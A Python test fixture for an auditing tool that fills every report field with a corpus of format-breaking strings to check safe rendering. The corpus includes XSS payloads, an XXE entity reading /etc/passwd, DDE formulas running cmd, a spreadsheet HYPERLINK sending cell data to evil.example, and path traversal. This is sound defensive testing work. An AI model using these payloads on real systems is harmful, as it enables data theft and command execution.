"""Strings that a collected system may hold, each made to break some format.

`hostile()` puts each of them into every field that comes from a collected system, at a place of
its own; `benign()` is the same assessment with harmless words there. Half surrogates are in no
field of a recorded run: canonical JSON refuses them (`test_hostile_strings` shows it).
"""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from functools import cache

from auditor.core.model.assessment import Assessment, Reading
from auditor.core.model.control import Check, Control
from auditor.core.model.finding import AssertionResult, Finding
from auditor.core.model.observation import Gap
from auditor.core.model.status import Cause, Severity, Status
from auditor.core.model.target import Target
from tests.unit.render.sample import CONTROLS, READINGS, sample

CORPUS: Mapping[str, str] = {
    "html-script": "<script>alert(document.cookie)</script>",
    "html-image": '"><img src=x onerror=alert(1)>',
    "html-attribute": "' onmouseover='alert(1)' x='",
    "html-comment": "<!-- hidden --><!--",
    "html-entity": "&lt;b&gt;&#x3c;&amp;amp;",
    "html-style": "</style><style>body{display:none}</style>",
    "html-raw-end": "</script></title></textarea></template>",
    "html-svg": "<svg/onload=alert(1)>",
    "template": "{{ 7 * 7 }}{% raw %}${7*7}#{7*7}",
    "oscal-insert": "{{ insert: param, secret }}",
    "markdown-link": "[click here](https://evil.example/)",
    "markdown-reference": '[a]: https://evil.example/ "t"',
    "markdown-image": "![p](https://evil.example/p.png)",
    "markdown-heading": "# heading",
    "markdown-setext": "title\n=====\n- item",
    "markdown-emphasis": "**bold** __bold__ *i* _i_ ~~gone~~",
    "markdown-code": "`code` ``code`` ```fence",
    "markdown-backtick-edges": "`",
    "markdown-table": "a | b | c\n| --- | --- |",
    "markdown-backslashes": "a\\b\\`c\\|d\\\\",
    "markdown-autolink": "<https://evil.example/> https://evil.example www.evil.example",
    "markdown-mail": "<mailto:a@evil.example> a@evil.example",
    "markdown-mention": "@octocat @org/team",
    "markdown-issue": "#1 GH-1 owner/repo#1 0123456789abcdef0123456789abcdef01234567",
    "markdown-emoji-math": ":tada: $x$ $$y$$ [^1] > [!WARNING]",
    "markdown-list": "- [x] done\n1. one",
    "markdown-comment": "[//]: # (hidden)",
    "ansi-clear": "\x1b[2J\x1b[31mall clear\x07",
    "ansi-title": "\x1b]0;title\x07\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "c0-controls": "nul\x00 bs\x08 vt\x0b ff\x0c so\x0e del\x7f",
    "c1-controls": "csi\x9b31m nel\x85 osc\x9d",
    "lone-cr": "passed\rFAILED",
    "newlines": "one\ntwo\r\nthree",
    "tabs": "a\tb\tc",
    "unicode-lines": "one\u2028two\u2029three",
    "bidi-override": "backup-\u202egpj.exe\u202c",
    "bidi-isolate": "a\u2066b\u2069\u2067c\u200f",
    "zero-width": "ad\u200bmin\u200d\u2060\ufeff\u00ad",
    "tag-characters": "plain\U000e0041\U000e007f",
    "formula-equals": '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "formula-dde": "=cmd|' /C calc'!A0",
    "formula-plus": "+1+1",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "formula-cr": "\r=1+1",
    "formula-space": "  =1+1",
    "formula-wide": "\uff1d1+1",
    "formula-semicolon": 'x;=1+1;"=2+2',
    "apostrophe": "'=1",
    "csv-quotes": 'a","b"\r\n"c',
    "xml-cdata": "<![CDATA[x]]> ]]>",
    "xml-entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "xml-forbidden": "a\x01b\ufffe\uffffc",
    "xml-instruction": '<?xml version="1.0"?><?php x ?>',
    "json-break": '"},{"status":"pass"}',
    "json-escapes": "\\u0022 \\ud800 \\n",
    "astral": "\U0001f4a5 \U00010348 e\u0301",
    "right-to-left": "גיבוי-ייצור",
    "prometheus-label": 'x"} 1\nauditor_findings{status="pass"} 9',
    "prometheus-backslash": 'x\\"} 1 \\n \\',
    "sarif-link": "[text](0) {0} {{1}} \\[x\\](1)",
    "path": "../../../etc/passwd%2e%2e%2f?x#y",
    "edges": "  spaces at both ends  ",
    "no-break-space": "\u00a0x\u3000",
    "very-long": "A" * 2_000,
}


def hostile() -> Assessment:
    """The assessment with the strings of the corpus, each on its own finding and reading."""
    return _assessment(tuple(CORPUS.values()))


def benign() -> Assessment:
    """The same with words that mean nothing to any format."""
    return _assessment(tuple(f"harmless{number:03d}" for number in range(len(CORPUS))))


@cache
def _assessment(texts: Sequence[str]) -> Assessment:
    findings = [finding for number, text in enumerate(texts) for finding in _findings(number, text)]
    return sample(
        findings=findings,
        targets=tuple(Target(text, text, text) for text in texts),
        readings=tuple(_reading(number, text) for number, text in enumerate(texts)),
        organisation=texts[0],
        waivers=(),
    )


def _check(number: int) -> tuple[Control, Check]:
    control = CONTROLS[number % len(CONTROLS)]
    return control, control.checks[0]


def _findings(number: int, text: str) -> list[Finding]:
    control, check = _check(number)
    failing = Finding(
        control=control.id,
        check=check.id,
        target=text,
        key=text,
        status=Status.FAIL,
        severity=Severity.HIGH,
        environment=text,
        resource_type=check.resource,
        uid=text,
        reason=text,
        hint=text,
        assertions=(AssertionResult("first", "false", Severity.HIGH, text),),
    )
    error = Finding(
        control=control.id,
        check=check.id,
        target=text,
        key=text,
        status=Status.ERROR,
        severity=Severity.HIGH,
        environment=text,
        resource_type=check.resource,
        uid=f"{text}z",  # behind the failing one in order, whatever the text is
        reason=text,
        cause=Cause.DENIED,
        action=text,
        hint=text,
    )
    return [failing, error]


def _reading(number: int, text: str) -> Reading:
    template = READINGS[0]
    return Reading(
        target=text,
        resource_type=_check(number)[1].resource,
        title="items",
        identity=text,
        read_at=template.read_at,
        as_of=template.as_of,
        items=1,
        calls=1,
        digest=template.digest,
        gaps=(Gap(Cause.TIMEOUT, text, text, text, text),),
    )
